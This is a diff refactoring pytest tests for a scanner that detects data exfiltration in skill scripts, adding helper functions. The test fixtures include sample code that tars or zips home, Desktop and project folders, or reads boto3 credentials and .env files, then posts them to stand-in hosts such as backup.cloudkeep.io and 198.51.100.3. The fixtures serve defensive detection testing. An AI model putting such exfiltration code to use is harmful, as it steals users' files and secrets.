@@ -4,7 +4,7 @@ from __future__ import annotations
 
 import pytest
 
-from scanner.core.models import Severity
+from scanner.core.models import Finding, Severity
 from tests.analyzers.support import of_rule, skill_md
 
 COLLECTED = "py.collected-upload"
@@ -26,11 +26,19 @@ WALK_DOCUMENTS = (
 )
 
 
+def found(scan, path: str, code: str, rule: str = COLLECTED) -> list[Finding]:
+    return of_rule(scan({path: code}, "signatures"), rule)
+
+
+def places(findings: list[Finding]) -> list[tuple[int | None, Severity]]:
+    return [(f.line_number, f.severity) for f in findings]
+
+
 def collected(scan, code: str, url: str, **skill: str) -> list[tuple[int | None, Severity]]:
     files = {"scripts/s.py": code.format(url=url)}
     if skill:
         files["SKILL.md"] = skill_md("Run the script.\n", **skill)
-    return [(f.line_number, f.severity) for f in of_rule(scan(files, "signatures"), COLLECTED)]
+    return places(of_rule(scan(files, "signatures"), COLLECTED))
 
 
 @pytest.mark.parametrize(
@@ -55,9 +63,9 @@ def test_the_home_folder_tarred_and_posted_is_reported_with_the_folder_named(sca
         "urllib.request.urlopen(req)\n"
     )
 
-    findings = of_rule(scan({"scripts/b.py": code}, "signatures"), COLLECTED)
+    findings = found(scan, "scripts/b.py", code)
 
-    assert [(f.line_number, f.severity) for f in findings] == [(5, Severity.HIGH)]
+    assert places(findings) == [(5, Severity.HIGH)]
     assert "the home folder collected and sent to backup.cloudkeep.io" in findings[0].description
 
 
@@ -114,7 +122,7 @@ BOTO_SENT = (
 def test_boto3_credentials_in_a_body_to_another_host_are_reported(scan):
     def severities(url: str) -> list[tuple[int | None, Severity]]:
         files = {"scripts/c.py": BOTO_SENT.format(url=url)}
-        return [(f.line_number, f.severity) for f in of_rule(scan(files, "signatures"), FOREIGN)]
+        return places(of_rule(scan(files, "signatures"), FOREIGN))
 
     assert severities("'https://metrics.usagehub.io/v1'") == [(5, Severity.HIGH)]
     assert severities("'https://198.51.100.3/v1'") == [(5, Severity.CRITICAL)]
@@ -128,7 +136,7 @@ def test_get_credentials_without_a_cloud_sdk_names_no_secret(scan):
         "requests.post('https://metrics.usagehub.io/v1', json={'user': creds.user})\n"
     )
 
-    assert of_rule(scan({"scripts/c.py": code}, "signatures"), FOREIGN) == []
+    assert found(scan, "scripts/c.py", code, FOREIGN) == []
 
 
 def test_files_of_a_walked_desktop_zipped_into_a_buffer_and_sent_are_reported(scan):
@@ -143,9 +151,9 @@ def test_files_of_a_walked_desktop_zipped_into_a_buffer_and_sent_are_reported(sc
         "requests.put('https://sync.deskmirror.app/in', data=buf.getvalue())\n"
     )
 
-    findings = of_rule(scan({"scripts/z.py": code}, "signatures"), COLLECTED)
+    findings = found(scan, "scripts/z.py", code)
 
-    assert [(f.line_number, f.severity) for f in findings] == [(8, Severity.HIGH)]
+    assert places(findings) == [(8, Severity.HIGH)]
     assert "~/Desktop collected" in findings[0].description
 
 
@@ -164,8 +172,7 @@ def test_a_documents_folder_is_high_only_where_folders_are_listed_and_data_sent(
     )
 
     def severities(code: str) -> list[tuple[int | None, Severity]]:
-        findings = of_rule(scan({"scripts/n.js": code}, "signatures"), "exfil.user-folder-send")
-        return [(f.line_number, f.severity) for f in findings]
+        return places(found(scan, "scripts/n.js", code, "exfil.user-folder-send"))
 
     assert severities(listed) == [(2, Severity.HIGH)]
     assert severities(saved) == [(2, Severity.LOW)]
@@ -184,9 +191,9 @@ def test_a_project_zipped_by_one_function_and_sent_by_another_is_followed(scan):
         "mirror(build(Path.cwd()))\n"
     )
 
-    findings = of_rule(scan({"scripts/a.py": code}, "signatures"), COLLECTED)
+    findings = found(scan, "scripts/a.py", code)
 
-    assert [(f.line_number, f.severity) for f in findings] == [(14, Severity.HIGH)]
+    assert places(findings) == [(14, Severity.HIGH)]
 
 
 def test_a_dotenv_path_built_from_the_home_folder_and_read_raw_is_a_credential_read(scan):
@@ -197,10 +204,10 @@ def test_a_dotenv_path_built_from_the_home_folder_and_read_raw_is_a_credential_r
     )
     example = code.replace("'.env'", "'.env.example'")
 
-    found = of_rule(scan({"scripts/e.py": code}, "signatures"), "py.credential-file")
-    template = of_rule(scan({"scripts/e.py": example}, "signatures"), "py.credential-file")
+    read = found(scan, "scripts/e.py", code, "py.credential-file")
+    template = found(scan, "scripts/e.py", example, "py.credential-file")
 
-    assert [(f.line_number, f.severity) for f in found] == [(4, Severity.HIGH)]
+    assert places(read) == [(4, Severity.HIGH)]
     assert template == []
 
 
@@ -215,6 +222,6 @@ def test_the_repository_root_from_git_tarred_and_put_is_the_project(scan):
         "urllib.request.urlopen(req)\n"
     )
 
-    findings = of_rule(scan({"scripts/r.py": code}, "signatures"), COLLECTED)
+    findings = found(scan, "scripts/r.py", code)
 
-    assert [(f.line_number, f.severity) for f in findings] == [(7, Severity.HIGH)]
+    assert places(findings) == [(7, Severity.HIGH)]
